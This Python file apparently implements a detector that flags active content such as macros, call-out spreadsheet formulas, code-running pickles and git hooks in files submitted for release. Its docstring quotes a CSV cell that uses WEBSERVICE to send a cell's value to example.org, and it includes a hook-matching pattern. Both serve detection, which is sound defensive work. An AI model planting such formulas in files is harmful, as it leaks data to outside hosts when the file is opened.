"""Active content: opening the file sets something off."""

from __future__ import annotations

import re
from collections import defaultdict
from collections.abc import Iterator
from itertools import islice

from sdc_airlock.checks import Params, Subject, check
from sdc_airlock.checks._active_facts import acts
from sdc_airlock.checks._format_facts import ACTIVE, JUDGED
from sdc_airlock.model.content import Oddity, OddityKind, Serialized
from sdc_airlock.model.filetype import Family
from sdc_airlock.model.finding import Finding, Location, Severity

_LISTED = 20
_HOOK = re.compile(
    r"(?:^|/)[^/]{0,100}\.git/(?:modules/[^/]{1,100}/)?hooks/"
    r"(?:applypatch-msg|(?:pre|post|commit|prepare|fsmonitor|sendemail|proc|push|update|reference)[a-z-]*)$"
)
_SWITCHED = {OddityKind.PAGE_SCRIPT: "page_scripts", OddityKind.PAGE_REFERENCE: "page_references"}

# oddities whose size counts places, not bytes
_PLACES = frozenset(
    {
        OddityKind.CALLING_FORMULA,
        OddityKind.CELL_FORMULA,
        OddityKind.PAGE_SCRIPT,
        OddityKind.PAGE_REFERENCE,
        OddityKind.BEACON,
        OddityKind.EXTERNAL_REFERENCE,
        OddityKind.SCRIPT,
        OddityKind.AUTOMATIC_ACTION,
    }
)


@check(id="active_content", version=1, rules=("page_scripts", "page_references"), severity=Severity.HIGH)
def active_content(subject: Subject, params: Params) -> Iterator[Finding]:
    """Opening or loading the file runs something, or calls an address elsewhere. Nothing of it is run here.

    ## What it flags
    Macros; scripts and automatic actions in PDF, SVG and office documents; formulas that call out (WEBSERVICE, IMPORTXML, RTD, DDE, HYPERLINK with cells in its address), also in cells of
    delimited text, which a spreadsheet takes for formulas; remote templates, linked pictures and workbooks; calls of a page that carry data or cannot be seen; page scripts that run text
    they decode, or that call an address; pickles, models and R objects that run code on loading; programs inside archives, or encoded in a script; triggers and loaded
    extensions of databases; hooks of a version-control store. Scripts of an HTML report or a notebook, and the libraries it fetches, are noted (`page_scripts` and
    `page_references` of a profile can send them to review), as are cells that only calculate.

    ## Why it discloses
    What a page or workbook shows can depend on what runs in it: data that nobody sees when it is checked are there when it is opened elsewhere. And whoever opens it, checker or
    researcher, runs it, and lets an address elsewhere know what the cells hold.

    ## Example flagged
    ```
    region,cases
    North,"=WEBSERVICE(""https://example.org/?""&B3)"
    ```

    ## Example passed
    An HTML report with the scripts that draw its figures.

    ## Blind spots
    What minified libraries do is not followed: a page that hides its purpose inside a library is noted only. Analysis code in a repository is code, and what it would do when it is run on
    data is not judged; data inside it are. Links that a reader has to follow (`href`, `/URI`) are ordinary.

    ## Sources
    - OWASP, CSV injection, 2025.
    - Microsoft, Office VBA macros and external content: blocked by default, 2022.
    - Trail of Bits, fickling: what loading a pickle runs, 2026.
    - CVE-2024-27322, promises in serialized R objects, 2024.
    """
    yield from _oddities(subject, params)
    yield from _loading(subject)
    for act, part_id, count in islice(acts(subject), _LISTED):
        yield _finding(act.severity, act.rule, part_id, act.message, act.remedy, count=count)
    yield from _hooks(subject)


def _oddities(subject: Subject, params: Params) -> Iterator[Finding]:
    """What readers saw act: one finding a kind and part, one a kind where it is only noted."""
    found: dict[OddityKind, dict[str, list[Oddity]]] = defaultdict(lambda: defaultdict(list))
    for oddity in subject.content.oddities:
        whole = oddity.part_id == subject.part_id and subject.content.file_type.family is Family.EXECUTABLE
        if oddity.kind in ACTIVE and not (whole and oddity.kind is OddityKind.EXECUTABLE):
            found[oddity.kind][oddity.part_id].append(oddity)
    for kind, parts in found.items():
        severity = JUDGED[kind].severity
        if kind in _SWITCHED and params[_SWITCHED[kind]] == "review":
            severity = Severity.MEDIUM
        listed = 0 if severity is Severity.LOW else _LISTED
        for part_id, oddities in list(parts.items())[:listed]:
            yield _of_oddities(kind, severity, part_id, oddities)
        if rest := list(parts.items())[listed:]:
            yield _of_oddities(kind, severity, rest[0][0], [oddity for _, each in rest for oddity in each])


def _of_oddities(kind: OddityKind, severity: Severity, part_id: str, oddities: list[Oddity]) -> Finding:
    judged = JUDGED[kind]
    details = ", ".join(dict.fromkeys(oddity.detail for oddity in oddities if oddity.detail))
    message = f"{judged.message} ({details[:300]})" if details else judged.message
    count = sum(oddity.size if oddity.size and kind in _PLACES else 1 for oddity in oddities)
    return _finding(severity, kind.value, part_id, message, judged.remedy, count=count)


def _loading(subject: Subject) -> Iterator[Finding]:
    """Serialized objects that run code on loading."""
    loaded = dict.fromkeys(part.part_id for part in subject.content.parts if isinstance(part, Serialized) and part.runs_code)
    for part_id in list(loaded)[:_LISTED]:
        message = "loading the object runs code that stands in the file"
        yield _finding(Severity.HIGH, "runs_on_loading", part_id, message, "export what it holds as a table or as text", count=1)


def _hooks(subject: Subject) -> Iterator[Finding]:
    """Hooks of a version-control store, which run by themselves when the store is used."""
    members = {part.part_id.partition("!")[0] for part in (*subject.content.parts, *subject.content.unread)}
    hooks = sorted(member for member in members if _HOOK.search(member))
    if hooks:
        message = "hooks of a version-control store run by themselves when the store is used"
        yield _finding(Severity.MEDIUM, "hook", hooks[0], message, "submit the files themselves, without the store", count=len(hooks))


def _finding(severity: Severity, rule: str, part_id: str, message: str, remedy: str, *, count: int) -> Finding:
    return Finding(
        check_id="active_content",
        severity=severity,
        location=Location(part_id=part_id),
        message=message,
        remedy=remedy,
        rule=rule,
        count=count,
    )
